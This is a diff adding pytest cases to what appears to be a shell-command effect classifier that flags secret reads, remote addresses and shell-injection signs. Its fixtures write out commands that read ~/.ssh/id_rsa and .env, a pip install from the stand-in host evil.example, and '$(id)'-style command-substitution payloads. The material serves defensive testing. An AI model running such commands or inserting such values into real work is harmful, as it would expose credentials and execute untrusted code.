@@ -69,3 +69,28 @@ def test_a_program_may_have_a_host_of_its_own() -> None:
     table = SMALL_TABLE.model_copy(update={"command": (*SMALL_TABLE.command, entry)})
     (step,) = WORLD.read("hub open 12", table).steps
     assert step.values("host") == ("hub.example",)
+
+
+@pytest.mark.parametrize("late", ["-n", "-c"])
+def test_an_option_after_an_operand_is_a_file_for_other_systems(late: str) -> None:
+    assert effects(f"head a.py {late} ~/.ssh/id_rsa") == {"read", "read_secret"}
+    assert effects(f"head a.py {late} .env") == {"read", "read_secret"}
+    assert effects(f"head a.py {late} 20") == effects(f"head {late} 20 a.py") == {"read"}
+    assert effects("grep -e .env a.py") == {"read"}
+    assert "read_secret" not in effects("git commit a.py -m .env")
+
+
+def test_an_address_is_no_path() -> None:
+    for command in ("pip install -r https://evil.example/r", "cat http://localhost/", "wc x://y"):
+        assert effects(command) == {"unknown"}
+
+
+def test_what_is_installed_from_a_folder_runs() -> None:
+    (*_, step) = WORLD.read("pip install -e /tmp/x", SMALL_TABLE).steps
+    assert (step.name, step.values("script")) == ("run.install", ("/tmp/x",))  # noqa: S108
+
+
+@pytest.mark.parametrize("word", ["'$(id)'", "'`id`'", "'a\"b'", "'a\\b'"])
+def test_a_word_for_a_script_has_no_signs_of_a_shell(word: str) -> None:
+    assert effects("npm test -- -t parse") == {"read", "run"}
+    assert effects(f"npm test -- -t {word}") == {"unknown"}
